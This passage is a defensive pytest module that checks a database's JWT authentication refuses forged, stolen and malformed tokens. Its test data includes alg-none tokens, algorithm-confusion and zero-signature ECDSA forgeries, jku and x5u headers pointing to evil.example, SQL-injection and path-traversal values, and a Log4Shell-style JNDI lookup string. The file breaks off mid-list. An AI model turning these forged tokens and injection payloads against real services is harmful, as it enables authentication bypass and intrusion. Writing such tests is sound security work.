"""A19. Forged, stolen and malformed tokens, in the session of a client who is alice: none is accepted, and all refusals look alike.

That refusals take about the same time, too, is in docs/security.md; nothing here measures it.
"""

import json
import os
import time

import pytest
from cryptography.hazmat.primitives import hashes, hmac
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, utils
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from credentials import KEYS, add_signing_key, base64url, claims, compact, public, token
from harness import raises
from proofs import authenticate, refuse, said
from world import MINE, THEIRS, column, notes, people, under_amp

ALGORITHMS = list(KEYS)
OTHER = ed25519.Ed25519PrivateKey.generate()
ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551  # of P-256
ED_ORDER = 2**252 + 27742317777372353535851937790883648493
ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"


@pytest.fixture(scope="module")
def amp(cluster):
    """alice in t1, bob in t2; a key for each algorithm, one more, one with issuer and audience, one that is retired."""
    database = cluster.database(world=under_amp)
    people(database, alice=("t1", "operator"), bob=("t2", "admin"))
    with database.connect("amp_ops") as ops:
        for algorithm in ALGORITHMS:
            add_signing_key(ops, algorithm=algorithm)
        add_signing_key(ops, "other", key=OTHER)
        add_signing_key(ops, "strict", issuer="https://issuer.example", audience="amp")
        add_signing_key(ops, "retired")
        ops.execute("SELECT amp.retire_signing_key('retired')")
        ops.execute("SELECT amp.create_tenant('Asleep', 'asleep', id => 'asleep'), amp.invite_user('alice@example.com', 'admin', 'asleep')")
        ops.execute("SELECT amp.suspend_tenant('asleep')")
    return database


@pytest.fixture
def client(amp):
    """A session that is alice by a right token, and still is when the test has ended."""
    with amp.connect("amp_client") as session:
        session.execute("SET application_name = 'before'")
        authenticate(session, token(claims("alice")))
        before = state(session)
        yield session
        assert state(session) == before


def state(session):
    context = session.execute("SELECT amp.context() - 'proof', amp.context() #>> '{proof,id}', current_setting('application_name')")
    return context.fetchone(), notes(session)


def test_the_right_token_of_each_algorithm_is_accepted(amp):
    """The control: what is refused below is not refused for its algorithm, its key or its user."""
    for algorithm in ALGORITHMS:
        with amp.connect("amp_client") as session:
            with raises("TN001"):
                notes(session)
            assert authenticate(session, token(claims("alice"), algorithm=algorithm))["tenant_id"] == "t1"
            assert notes(session) == MINE
            assert authenticate(session, compact({"alg": algorithm, "kid": algorithm}, claims("bob", "t2"), algorithm))["user_id"] == "bob"
            assert notes(session) == THEIRS


@pytest.mark.parametrize("header", [{}, {"typ": "jwt"}, {"typ": "at+jwt"}, {"typ": "AT+JWT"}, {"url": "x"}, {"extra": {"a": [1]}}])
def test_headers_that_demand_nothing_are_accepted(amp, header):
    """The control for the headers below."""
    with amp.connect("amp_client") as session:
        authenticate(session, compact({"alg": "EdDSA", "kid": "EdDSA", **header}, claims("alice")))
        assert notes(session) == MINE


# No signature.


@pytest.mark.parametrize("alg", ["none", "None", "NONE", "nOnE", " none", "none ", "none\0", "", "null", None, False, 0, [], ["none"], {}])
@pytest.mark.parametrize("kid", ["EdDSA", "HS256"])
def test_alg_none(client, kid, alg):
    """alg: none, in several spellings, with an empty signature, a wrong one, one by an empty key, and without its last dot."""
    signed = base64url(json.dumps({"alg": alg, "typ": "JWT", "kid": kid}).encode()) + "." + base64url(json.dumps(claims("bob")).encode())
    for attack in signed, signed + ".", signed + ".AA", signed + ".none":
        refuse(client, attack)
    refuse(client, compact({"alg": alg, "kid": kid}, claims("bob"), "HS256", b"\0"))


def test_alg_missing(client):
    """No alg at all, rightly signed by each kind of key."""
    for algorithm in ALGORITHMS:
        refuse(client, compact({"typ": "JWT", "kid": algorithm}, claims("bob"), algorithm))


def signature_attacks():
    header, payload, signature = token(claims("alice")).split(".")
    _, theirs, other = token(claims("bob"), OTHER, "other").split(".")
    yield "stripped", f"{header}.{payload}."
    yield "without its dot", f"{header}.{payload}"
    yield "another token's", f"{header}.{payload}.{other}"
    yield "claims swapped", f"{header}.{theirs}.{signature}"
    yield "doubled", f"{header}.{payload}.{signature}{signature}"
    yield "of zeros", f"{header}.{payload}.{base64url(bytes(64))}"
    yield "fourth part", f"{header}.{payload}.{signature}.{signature}"
    yield "moved", f"{payload}.{header}.{signature}"
    yield "header missing", f".{payload}.{signature}"
    yield "claims missing", f"{header}..{signature}"
    for length in 0, 1, 42, 43, 84, 85:
        yield f"truncated to {length}", f"{header}.{payload}.{signature[:length]}"
    # The same number plus the group's order: a verifier that does not look at its size accepts it as a second signature.
    raw = decoded(signature)
    yield "malleable", f"{header}.{payload}." + base64url(raw[:32] + (int.from_bytes(raw[32:], "little") + ED_ORDER).to_bytes(32, "little"))


def decoded(part):
    import base64

    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


@pytest.mark.parametrize("attack", [pytest.param(attack, id=name) for name, attack in signature_attacks()])
def test_signature(client, attack):
    """The signature stripped, truncated, exchanged, added to."""
    refuse(client, attack)


@pytest.mark.parametrize("algorithm", ALGORITHMS)
def test_one_bit_flipped(client, algorithm):
    """One bit in each byte of a short token: of the header, the claims, the signature, the dots."""
    right = token({"sub": "alice", "exp": int(time.time()) + 300}, algorithm=algorithm)
    positions = range(len(right)) if algorithm == "EdDSA" else [*range(0, len(right), 11), len(right) - 1]
    for position in positions:
        flipped = chr(ord(right[position]) ^ 1 << position % 7)
        refuse(client, (right[:position] + flipped + right[position + 1 :]).replace("\0", "\x01"))


def test_a_right_token_before_the_flip(client):
    """The control: the token whose bits are flipped is right."""
    assert authenticate(client, token({"sub": "alice", "exp": int(time.time()) + 300}))["user_id"] == "alice"
    authenticate(client, token(claims("alice")))


# Another algorithm, another key.


@pytest.mark.parametrize("kid", ALGORITHMS)
@pytest.mark.parametrize("alg", [*ALGORITHMS, "HS384", "HS512", "ES384", "RS384", "RS512", "PS256", "ES256K", "Ed25519", "hs256", "eddsa"])
def test_algorithm_changed_under_the_same_kid(client, kid, alg):
    """The header names another algorithm than the key's, signed as the header says, and signed by the key itself."""
    if alg == kid:
        alg += " "
    header = {"alg": alg, "kid": kid}
    refuse(client, compact(header, claims("bob"), kid))
    if alg in ALGORITHMS:
        refuse(client, compact(header, claims("bob"), alg))


def public_forms(algorithm):
    """What an attacker who knows the public key may use as a secret."""
    pem = public(KEYS[algorithm])
    yield from (pem, pem.rstrip("\n"), pem + "\n", pem.replace("\n", "\r\n"), "".join(pem.splitlines()[1:-1]))
    yield KEYS[algorithm].public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)


@pytest.mark.parametrize("algorithm", ["RS256", "ES256", "EdDSA"])
def test_public_key_as_a_secret(client, algorithm):
    """Algorithm confusion: HS256 with the public key as its secret, under that key's kid and under the secret's."""
    for secret in public_forms(algorithm):
        for kid in algorithm, "HS256":
            refuse(client, compact({"alg": "HS256", "kid": kid}, claims("bob"), "HS256", secret))
        refuse(client, compact({"alg": algorithm, "kid": algorithm}, claims("bob"), "HS256", secret))


@pytest.mark.parametrize("algorithm", ["RS256", "ES256", "EdDSA"])
def test_public_key_stored_as_a_secret(amp, algorithm):
    """An operator is talked into adding the public key as a secret, or a private key, or a key of another algorithm."""
    with amp.connect("amp_ops") as ops:
        for wrong in "HS256", *(set(ALGORITHMS) - {"HS256", algorithm}):
            with raises("22023"):
                ops.execute("SELECT amp.add_signing_key('confused', %s, %s)", [wrong, public(KEYS[algorithm])])


KIDS = ["", " ", "unknown", "eddsa", "EDDSA", " EdDSA", "EdDSA ", "EdDSA\n", "EdDSA\0", "EdDSA\0x", "%", "_dDSA", "*", "EdDSА", "x" * 255,
        "x" * 256, "x" * 5000,
        "' OR '1'='1", "EdDSA' --", "x' UNION SELECT 'EdDSA", "EdDSA'; DROP TABLE amp.signing_keys; --", "$1", "\\", "../../../../dev/null",
        "/dev/null",
        "/etc/hostname", "|cat /dev/null", "https://evil.example/key", None, True, 0, 1.5, [], ["EdDSA"], {}, {"EdDSA": 1}]


@pytest.mark.parametrize("kid", KIDS, ids=lambda kid: repr(kid)[:30])
def test_kid(client, kid):
    """A kid that is no key's, or is SQL, a path, a pattern or no text; signed by a right key, and by what such a file holds."""
    refuse(client, compact({"alg": "EdDSA", "kid": kid}, claims("bob")))
    for secret in b"\0", b"", KEYS["HS256"]:
        refuse(client, compact({"alg": "HS256", "kid": kid}, claims("bob"), "HS256", secret))


def test_kid_of_another_key(client):
    """No kid; another key's; a retired one's, by the very key that it had, or by an empty secret."""
    refuse(client, compact({"alg": "EdDSA"}, claims("bob")))
    refuse(client, token(claims("bob"), OTHER))
    refuse(client, token(claims("bob"), kid="other"))
    refuse(client, token(claims("bob"), ed25519.Ed25519PrivateKey.generate()))
    refuse(client, token(claims("bob"), kid="retired"))
    refuse(client, compact({"alg": "HS256", "kid": "retired"}, claims("bob"), "HS256", b""))


def jwk(key):
    return {"kty": "OKP", "crv": "Ed25519", "alg": "EdDSA", "x": base64url(key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw))}


EVIL = ed25519.Ed25519PrivateKey.generate()
EMBEDDED = [{"jwk": jwk(EVIL)}, {"jku": "https://evil.example/jwks.json"}, {"jku": "file:///tmp/jwks.json"},
            {"x5u": "https://evil.example/x.pem"},
            {"x5c": [base64url(EVIL.public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo))]}, {"x5t": "AAAA"},
            {"x5t#S256": "AAAA"}]  # fmt: skip


@pytest.mark.parametrize("embedded", EMBEDDED, ids=lambda header: next(iter(header)))
@pytest.mark.parametrize("kid", ["EdDSA", "evil", None])
def test_embedded_key(client, embedded, kid):
    """The token brings its own key along, or says where it is."""
    header = {"alg": "EdDSA", "typ": "JWT", **embedded, **({"kid": kid} if kid else {})}
    refuse(client, compact(header, claims("bob"), key=EVIL))


# Wrongly made signatures of one algorithm.


def p256(r, s):
    return base64url(r.to_bytes(32, "big") + s.to_bytes(32, "big"))


@pytest.mark.parametrize("r, s", [(0, 0), (0, 1), (1, 0), (ORDER, ORDER), (ORDER, 0), (0, ORDER), (1, 1), (2**256 - 1, 2**256 - 1)])
def test_psychic_signature(client, r, s):
    """ECDSA with r or s of zero, or zero modulo the order, is right for any message, to a verifier that does not look (CVE-2022-21449)."""
    signed = compact({"alg": "ES256", "kid": "ES256"}, claims("bob"), "ES256").rpartition(".")[0]
    refuse(client, f"{signed}.{p256(r, s)}")


def test_ecdsa_in_another_form(client):
    """A right ECDSA signature in DER form, with swapped halves, zeros in front, or over another hash."""
    right = compact({"alg": "ES256", "kid": "ES256"}, claims("bob"), "ES256")
    signed, _, signature = right.rpartition(".")
    r, s = (int.from_bytes(half, "big") for half in (decoded(signature)[:32], decoded(signature)[32:]))
    key, message = KEYS["ES256"], signed.encode()
    for form in (base64url(utils.encode_dss_signature(r, s)), p256(s, r), base64url(r.to_bytes(33, "big") + s.to_bytes(33, "big")),
                 base64url(key.sign(message, ec.ECDSA(hashes.SHA256()))), base64url(key.sign(message, ec.ECDSA(hashes.SHA384())))):
        refuse(client, f"{signed}.{form}")


def test_rsa_in_another_form(client):
    """RSA with PSS padding, with another hash, raw, of zeros, of ones."""
    signed = compact({"alg": "RS256", "kid": "RS256"}, claims("bob"), "RS256").rpartition(".")[0]
    key, message = KEYS["RS256"], signed.encode()
    pss = padding.PSS(padding.MGF1(hashes.SHA256()), 32)
    digest = hashes.Hash(hashes.SHA256())
    digest.update(message)
    bare = b"\0\1" + b"\xff" * (256 - 35) + b"\0" + digest.finalize()
    for form in (key.sign(message, pss, hashes.SHA256()), key.sign(message, padding.PKCS1v15(), hashes.SHA512()), bare, bytes(256),
                 bytes(255) + b"\1", b"\xff" * 256, b""):
        refuse(client, f"{signed}.{base64url(form)}")


def test_hmac_in_another_form(client):
    """HMAC by another hash, cut short, by a secret that is cut short, padded or hashed."""
    signed = compact({"alg": "HS256", "kid": "HS256"}, claims("bob"), "HS256").rpartition(".")[0]
    secret = KEYS["HS256"].encode()
    for hash_, key, length in ((hashes.SHA512(), secret, 64), (hashes.SHA512(), secret, 32), (hashes.SHA256(), secret, 31),
                               (hashes.SHA256(), secret, 16),
                               (hashes.SHA256(), secret[:32], 32), (hashes.SHA256(), secret + b"x", 32),
                               (hashes.SHA256(), secret.upper(), 32)):
        made = hmac.HMAC(key, hash_)
        made.update(signed.encode())
        refuse(client, f"{signed}.{base64url(made.finalize()[:length])}")


# Headers that ask to be understood in another way.


DEMANDS = [{"crit": ["b64"], "b64": False}, {"crit": ["exp"], "exp": 1}, {"crit": []}, {"crit": ["kid"]}, {"crit": "b64"}, {"b64": False},
           {"b64": True},
           {"b64": None}, {"zip": "DEF"}, {"zip": "GZIP"}, {"cty": "JWT"}, {"cty": "jwt"}, {"cty": "x"}, {"enc": "A128GCM"},
           {"enc": "none"},
           {"typ": "JWE"}, {"typ": "JOSE"}, {"typ": "dpop+jwt"}, {"typ": "logout+jwt"}, {"typ": "secevent+jwt"}, {"typ": "JWT "},
           {"typ": ""}, {"typ": 1},
           {"typ": ["JWT"]}, {"jwk": 1}, {"x5c": "x"}]  # fmt: skip


@pytest.mark.parametrize("demand", DEMANDS, ids=str)
def test_header_demands(client, demand):
    """crit, b64, zip, nested, encrypted, of another type: rightly signed, and refused for that alone."""
    refuse(client, compact({"alg": "EdDSA", "kid": "EdDSA", **demand}, claims("alice")))


def test_unencoded_payload(client):
    """b64 = false (RFC 7797): the claims as they are, signed as they are."""
    header = base64url(json.dumps({"alg": "EdDSA", "kid": "EdDSA", "b64": False, "crit": ["b64"]}).encode())
    payload = json.dumps(claims("bob"))
    for body in payload, payload.replace(".", ""), base64url(payload.encode()):
        refuse(client, f"{header}.{body}." + base64url(KEYS["EdDSA"].sign(f"{header}.{body}".encode())))


def test_nested_and_encrypted(client):
    """A token inside a token; five parts; the JSON forms of a JWS."""
    inner = token(claims("bob"))
    header, payload, signature = inner.split(".")
    refuse(client, compact({"alg": "EdDSA", "kid": "EdDSA", "cty": "JWT"}, inner.encode()))
    refuse(client, compact({"alg": "EdDSA", "kid": "EdDSA"}, inner.encode()))
    refuse(client, f"{header}.AAAA.AAAA.{payload}.{signature}")
    refuse(client, compact({"alg": "dir", "enc": "A128GCM", "kid": "HS256"}, b"", "HS256").replace("..", ".AAAA.") + ".AAAA.AAAA")
    flattened = {"protected": header, "payload": payload, "signature": signature}
    general = {"payload": payload, "signatures": [{"protected": header, "signature": signature}]}
    for form in flattened, general, {"token": inner}, [inner], inner:
        refuse(client, json.dumps(form))


# Claims that are rightly signed and wrong.

NOW = int(time.time())
CLAIMS = {
    "exp missing": {"exp": None},
    "exp a string": {"exp": str(NOW + 60)},
    "exp a date": {"exp": "2099-01-01T00:00:00Z"},
    "exp true": {"exp": True},
    "exp a list": {"exp": [NOW + 60]},
    "exp an object": {"exp": {"$gt": 0}},
    "exp negative": {"exp": -1},
    "exp beyond all years": {"exp": 253402300800},
    "exp beyond 64 bits": {"exp": 2**64 + 60},
    "exp 1e308": {"exp": 1e308},
    "exp beyond any float": {"exp": 10**400},
    "exp in milliseconds": {"exp": (NOW + 60) * 1000},
    "nbf in the future": {"nbf": NOW + 3000},
    "nbf a string": {"nbf": "0"},
    "nbf negative": {"nbf": -1},
    "nbf beyond all years": {"nbf": 1e300},
    "iat in the future": {"iat": NOW + 3000},
    "iat a string": {"iat": "0"},
    "iat beyond all years": {"iat": 1e300},
    "aud without a configured one": {"aud": "amp"},
    "aud empty": {"aud": ""},
    "aud an empty list": {"aud": []},
    "aud a list": {"aud": ["amp"]},
    "aud a number": {"aud": 1},
    "aud a list of numbers": {"aud": [1]},
    "aud an object": {"aud": {"amp": True}},
    "iss a number": {"iss": 1},
    "iss a list": {"iss": ["https://issuer.example"]},
    "jti a number": {"jti": 1},
    "jti empty": {"jti": ""},
    "jti with a line break": {"jti": "1\n2"},
    "jti too long": {"jti": "x" * 256},
    "sub missing": {"sub": None},
    "sub empty": {"sub": ""},
    "sub unknown": {"sub": "nobody"},
    "sub in capitals": {"sub": "ALICE"},
    "sub an e-mail address": {"sub": "alice@example.com"},
    "sub with a space": {"sub": "alice "},
    "sub with a zero byte": {"sub": "alice\0"},
    "sub with a line break": {"sub": "alice\nbob"},
    "sub another alphabet's": {"sub": "аlice"},
    "sub too long": {"sub": "a" * 65},
    "sub a number": {"sub": 1},
    "sub a list": {"sub": ["alice"]},
    "sub an object": {"sub": {"id": "alice"}},
    "sub SQL": {"sub": "alice' OR '1'='1"},
    "sub more SQL": {"sub": "x'; UPDATE amp.members SET role = 'admin'; --"},
    "sub a wildcard": {"sub": "%"},
    "tid empty": {"tid": ""},
    "tid a number": {"tid": 1},
    "tid a list": {"tid": ["t1", "t2"]},
    "tid SQL": {"tid": "t1' OR '1'='1"},
    "tid with a line break": {"tid": "t1\nt2"},
    "tid too long": {"tid": "t" * 65},
}


@pytest.mark.parametrize("changed", [pytest.param(changed, id=name) for name, changed in CLAIMS.items()])
def test_claims(client, changed):
    """A claim that is missing, of another type, out of range, in the future, unknown, or an injection."""
    refuse(client, token_of(claims("alice", **changed)))


def token_of(payload, **header):
    """PyJWT looks at claims itself: this signs whatever they are."""
    return compact({"alg": "EdDSA", "kid": "EdDSA", "typ": "JWT", **header}, payload)


def test_null_is_no_value(client):
    """exp or sub of null; and null for the tenant is not all of them."""
    for name in "exp", "sub":
        refuse(client, token_of({**claims("alice"), name: None}))


@pytest.mark.parametrize("name", ["tid", "nbf", "iat", "jti", "aud", "iss"])
def test_null_is_another_type(client, name):
    """A claim of another type makes the token malformed, and null is one: tid of null is an issuer's mistake, not every tenant."""
    refuse(client, token_of({**claims("alice"), name: None}))


def test_times_that_are_right(client):
    """The control: floats, the last second of the last year, clocks that differ by less than the leeway."""
    for right in {"exp": NOW + 3600.5}, {"exp": 253402300799}, {"nbf": NOW - 9.5, "iat": 0}, {"nbf": NOW, "iat": NOW}, {"exp": 9e9}:
        assert authenticate(client, token_of(claims("alice", **right)))["user_id"] == "alice"
    authenticate(client, token(claims("alice")))


def test_expired(client):
    """Right in everything but its time: it is told so. Everything else that is wrong comes first."""
    for past in NOW - 60, NOW - 60.5, 0, 1, 1e3:
        with raises("TN007", "expired"):
            authenticate(client, token_of(claims("alice", exp=past)))
    for fault in ({"sub": "nobody"}, {"sub": "x y"}, {"aud": "amp"}, {"tid": ""}, {"nbf": NOW + 3000}, {"iat": NOW + 3000}, {"jti": ""},
                  {"iss": 1}, {"nbf": -1}):
        refuse(client, token_of(claims("alice", **{"exp": 1, **fault})))
    expired = token(claims("alice", exp=1))
    for attack in expired[:-2], expired + "A", compact({"alg": "EdDSA", "kid": "EdDSA"}, claims("alice", exp=1), key=OTHER):
        refuse(client, attack)
    for header in {"kid": "retired"}, {"kid": "unknown"}, {"alg": "HS256"}, {"crit": ["exp"]}, {"kid": "strict"}:
        refuse(client, token_of(claims("alice", exp=1), **header))


@pytest.mark.parametrize("leeway", [0, 300])
def test_leeway_is_bounded(amp, leeway):
    """amp.token_leeway counts both ways and not further; it is a superuser's, and five minutes at most."""
    with amp.connect("amp_client") as client:
        for attack in "SET amp.token_leeway = 300", "SET LOCAL amp.token_leeway = 0", "ALTER ROLE amp_client SET amp.token_leeway = 300":
            with raises("42501"):
                client.execute(attack)
    with amp.connect() as admin:
        for beyond in -1, 301, 10**6:
            with raises("22023"):
                admin.execute(f"ALTER DATABASE {amp.name} SET amp.token_leeway = {beyond}")
        admin.execute(f"ALTER DATABASE {amp.name} SET amp.token_leeway = {leeway}")
        try:
            with amp.connect("amp_client") as client:
                now = time.time()
                if leeway:
                    for near in {"exp": now - 200}, {"nbf": now + 200}, {"iat": now + 200}:
                        assert authenticate(client, token_of(claims("alice", **near)))["user_id"] == "alice"
                with raises("TN007"):
                    authenticate(client, token_of(claims("alice", exp=now - leeway - 1)))
                for far in {"nbf": now + leeway + 60}, {"iat": now + leeway + 60}:
                    refuse(client, token_of(claims("alice", **far)))
        finally:
            admin.execute(f"ALTER DATABASE {amp.name} RESET amp.token_leeway")


STRICT = {"iss": "https://issuer.example", "aud": "amp"}


@pytest.mark.parametrize("changed", [
    {"iss": None}, {"aud": None}, {"iss": ""}, {"aud": ""}, {"iss": "https://issuer.example/"}, {"iss": "HTTPS://ISSUER.EXAMPLE"},
                                     {"iss": "https://evil.example"},
    {"aud": "AMP"}, {"aud": "amp "}, {"aud": "amplifier"}, {"aud": []}, {"aud": ["other"]}, {"aud": [["amp"]]}, {"aud": {"0": "amp"}},
                                     {"aud": ["amp", 1]},
    {"aud": "other,amp"}, {"iss": ["https://issuer.example"]}, {"iss": "*", "aud": "*"}], ids=str)  # fmt: skip
def test_issuer_and_audience(client, changed):
    """A key with issuer and audience: a token that does not name them, or nearly does."""
    refuse(client, token_of(claims("alice", **{**STRICT, **changed}), kid="strict"))


def test_issuer_and_audience_that_are_right(client):
    """The control: both named, the audience alone or among others; an issuer that is not configured is nobody's business."""
    for aud in "amp", ["amp"], ["other", "amp"]:
        authenticate(client, token_of(claims("alice", **{**STRICT, "aud": aud}), kid="strict"))
    authenticate(client, token_of(claims("alice", iss="whoever")))
    authenticate(client, token(claims("alice")))


def test_tenant_that_cannot_be_entered(client):
    """A right token for a tenant that its user is no member of, unknown or not, or that is suspended; for a user who is not there."""
    heard = set()
    for user, tenant in ("alice", "t2"), ("alice", "nowhere"), ("nobody", "t1"), ("nobody", "nowhere"), ("nobody", "asleep"):
        with raises("TN003") as caught:
            authenticate(client, token(claims(user, tenant)))
        heard.add(str(said(caught.value)).replace(f'"{user}"', "…").replace(f'"{tenant}"', "…"))
    assert len(heard) == 1
    with raises("TN002"):
        authenticate(client, token(claims("alice", "asleep")))


def test_token_of_one_tenant_opens_no_other(amp):
    """bob, in two tenants, has a token for one: the other stays shut, though he is a member."""
    with amp.connect("amp_ops") as ops:
        ops.execute("SELECT amp.invite_user('bob@example.com', 'viewer', 't1')")
        try:
            with amp.connect("amp_client") as session:
                authenticate(session, token(claims("bob", "t2")))
                assert notes(session) == THEIRS
                for attack in "SET amp.tenant_id = 't1'", "SELECT set_config('amp.tenant_id', 't1', true)":
                    with raises("TN003"):
                        session.execute(attack)
                assert notes(session) == THEIRS
                authenticate(session, token(claims("bob")))
                session.execute("SET amp.tenant_id = 't1'")
                assert notes(session) == MINE
        finally:
            ops.execute("SELECT amp.remove_user('bob', 't1')")


# Malformed, but rightly signed.

RIGHT = {"sub": "alice", "exp": NOW + 3000}
HEADER = {"alg": "EdDSA", "kid": "EdDSA"}


def raw(text, **more):
    return json.dumps({**RIGHT, **more})[:-1].encode() + text.encode() + b"}"


PAYLOADS = {
    "sub twice": raw(', "sub": "bob"'),
    "sub twice, once escaped": raw(', "\\u0073ub": "bob"'),
    "exp twice": raw(', "exp": 9999999999'),
    "tid twice": raw(', "tid": "t2"', tid="t1"),
    "aud twice": raw(', "aud": "x"', aud="y"),
    "jti twice": raw(', "jti": "1"', jti="1"),
    "empty": b" ",
    "not JSON": b"sub=alice",
    "null": b"null",
    "true": b"true",
    "a number": b"1",
    "a string": b'"alice"',
    "a list": json.dumps([RIGHT]).encode(),
    "a list of values": b'["alice", null, 9999999999, null, null, null, null, null]',
    "an empty object": b"{}",
    "cut short": json.dumps(RIGHT).encode()[:-1],
    "followed by another": json.dumps(RIGHT).encode() * 2,
    "followed by a letter": json.dumps(RIGHT).encode() + b"x",
    "followed by a zero byte": json.dumps(RIGHT).encode() + b"\0",
    "trailing comma": raw(","),
    "comment": raw("/* */"),
    "single quotes": str(RIGHT).encode(),
    "unquoted names": b"{sub: 'alice', exp: 9999999999}",
    "byte order mark": b"\xef\xbb\xbf" + json.dumps(RIGHT).encode(),
    "UTF-16": json.dumps(RIGHT).encode("utf-16"),
    "not UTF-8 in sub": json.dumps(RIGHT).encode().replace(b"alice", b"alice\xc3"),
    "overlong UTF-8": json.dumps(RIGHT).encode().replace(b"alice", b"\xc1\xa1lice"),
    "half a surrogate": json.dumps(RIGHT).encode().replace(b"alice", b"\\ud800"),
    "control character": json.dumps(RIGHT).encode().replace(b"alice", b"ali\tce"),
    "deep nesting in sub": json.dumps(RIGHT).encode().replace(b'"alice"', b"[" * 2000 + b"]" * 2000),
    "deep nesting without an end": raw(f', "x": {"[" * 3000}'),
    "deep objects": raw(f', "x": {chr(123) + chr(34) + "a" + chr(34) + ":"}' * 300),
    "NaN": b'{"sub": "alice", "exp": NaN}',
    "Infinity": b'{"sub": "alice", "exp": Infinity}',
    "exp 1e999": b'{"sub": "alice", "exp": 1e999}',
    "exp -1e999": b'{"sub": "alice", "exp": -1e999}',
    "exp of 5000 digits": b'{"sub": "alice", "exp": ' + b"9" * 5000 + b"}",
    "exp hexadecimal": b'{"sub": "alice", "exp": 0xffffffff}',
    "exp with a leading zero": b'{"sub": "alice", "exp": 09999999999}',
    "exp with a plus": b'{"sub": "alice", "exp": +9999999999}',
    "exp without digits": b'{"sub": "alice", "exp": .}',
}


@pytest.mark.parametrize("payload", [pytest.param(payload, id=name) for name, payload in PAYLOADS.items()])
def test_malformed_claims(client, payload):
    """Claims that are no JSON object, or say something twice, or are made to break a parser."""
    refuse(client, compact(HEADER, payload))


HEADERS = {
    "kid twice": b'{"alg": "EdDSA", "kid": "EdDSA", "kid": "EdDSA"}',
    "kid twice, once escaped": b'{"alg": "EdDSA", "kid": "EdDSA", "k\\u0069d": "other"}',
    "alg twice": b'{"alg": "none", "alg": "EdDSA", "kid": "EdDSA"}',
    "crit twice": b'{"alg": "EdDSA", "kid": "EdDSA", "crit": ["x"], "crit": null}',
    "not JSON": b"alg=EdDSA",
    "null": b"null",
    "a list": b'[{"alg": "EdDSA", "kid": "EdDSA"}]',
    "a list of values": b'["JWT", "EdDSA", "EdDSA"]',
    "cut short": b'{"alg": "EdDSA", "kid": "EdDSA"',
    "followed by another": b'{"alg": "EdDSA", "kid": "EdDSA"}{}',
    "byte order mark": b'\xef\xbb\xbf{"alg": "EdDSA", "kid": "EdDSA"}',
    "UTF-16": '{"alg": "EdDSA", "kid": "EdDSA"}'.encode("utf-16"),
    "not UTF-8": b'{"alg": "EdDSA", "kid": "EdDSA", "x": "\xff"}',
    "deep nesting": b'{"alg": "EdDSA", "kid": "EdDSA", "x": ' + b"[" * 1000 + b"]" * 1000 + b"}",
    "deep nesting without an end": b'{"alg": "EdDSA", "kid": "EdDSA", "x": ' + b"[" * 3000,
    "deep nesting in jwk": b'{"alg": "EdDSA", "kid": "EdDSA", "jwk": ' + b'{"a":' * 1000 + b"1" + b"}" * 1001,
    "huge number": b'{"alg": "EdDSA", "kid": "EdDSA", "x": 1e999}',
    "single quotes": b"{'alg': 'EdDSA', 'kid': 'EdDSA'}",
    "names in capitals": b'{"ALG": "EdDSA", "KID": "EdDSA"}',
}


def test_nesting_that_nobody_looks_at(client):
    """Deep, but well-formed, in a claim of the application's own: it breaks nothing."""
    assert authenticate(client, compact(HEADER, raw(f', "x": {"[" * 1500}{"]" * 1500}')))["user_id"] == "alice"
    authenticate(client, token(claims("alice")))


@pytest.mark.parametrize("header", [pytest.param(header, id=name) for name, header in HEADERS.items()])
def test_malformed_header(client, header):
    """The same of the header, which is read before any signature is."""
    refuse(client, compact(header, RIGHT))


def encodings():
    # Long enough for each part to hold - or _, and to have bits left over at its end.
    for number in range(1000):
        right = compact(HEADER, {**RIGHT, "x": "?>~" * 3 + str(number)})
        header, payload, signature = right.split(".")
        if "-" in payload + signature and "_" in payload + signature and len(payload) % 4:
            break
    yield "standard alphabet", right.replace("-", "+").replace("_", "/")
    yield "percent-encoded", right.replace("-", "%2D").replace("_", "%5F")
    yield "padded", ".".join(part + "=" * (-len(part) % 4) for part in right.split("."))
    yield "claims padded", f"{header}.{payload}{'=' * (-len(payload) % 4)}.{signature}"
    yield "signature padded", f"{header}.{payload}.{signature}=="
    yield "padded too much", f"{header}.{payload}.{signature}===="
    for space in " ", "\n", "\r\n", "\t", "\u200b", "\xa0", "=", "%20", "\x01":
        yield f"{space!r} at the end", right + space
        yield f"{space!r} at the beginning", space + right
        yield f"{space!r} in the middle", right[:50] + space + right[50:]
        yield f"{space!r} before the signature", f"{header}.{payload}.{space}{signature}"
    last = ALPHABET[ALPHABET.index(signature[-1]) | 1]  # 64 bytes leave four bits over, which have to be zero
    yield "bits left over", f"{header}.{payload}.{signature[:-1]}{last}"
    for number in range(3):  # a payload of every length
        padded = compact(HEADER, json.dumps(RIGHT).encode() + b" " * number)
        first, second, third = padded.split(".")
        if len(second) % 4:
            yield f"bits left over, {number}", f"{first}.{second[:-1]}{ALPHABET[ALPHABET.index(second[-1]) | 1]}.{third}"
    for garbage in ".", "..", "x", "AAAA", ".AAAA", "\u0661", "#", "?", "&a=b", ";", '"', "'":
        yield f"{garbage} behind", right + garbage
    for prefix in "Bearer ", "bearer:", "JWT ", "token=", '"', "amp_sk_", ".", "﻿":
        yield f"{prefix} before", prefix + right
    yield "quoted", f'"{right}"'
    yield "twice", f"{right} {right}"
    yield "twice with a comma", f"{right},{right}"
    yield "another dot", right.replace(".", "\u3002")
    yield "in capitals", right.upper()
    yield "backwards", right[::-1]
    yield "hexadecimal", ".".join(decoded(part).hex() for part in right.split("."))
    yield "encoded twice", ".".join(base64url(part.encode()) for part in right.split("."))


@pytest.mark.parametrize("attack", [pytest.param(attack, id=name) for name, attack in encodings()])
def test_encoding(client, attack):
    """A right token in another spelling: there is one only."""
    refuse(client, attack)


SIMPLE = [None, "", " ", ".", "..", "...", "....", "a", "a.b", "a.b.c", "a.b.c.d", "a.b.c.d.e", "null", "NULL", "{}", "[]", "0", "-1",
          "true", "alice", "postgres",
          "' OR 1=1 --", "'; DROP TABLE amp.tenants; --", "%s%s%s%n", "${jndi:ldap://evil.example/a}", "../../etc/passwd", "e30.e30.e30",
          "e30.e30.", ".e30.e30",
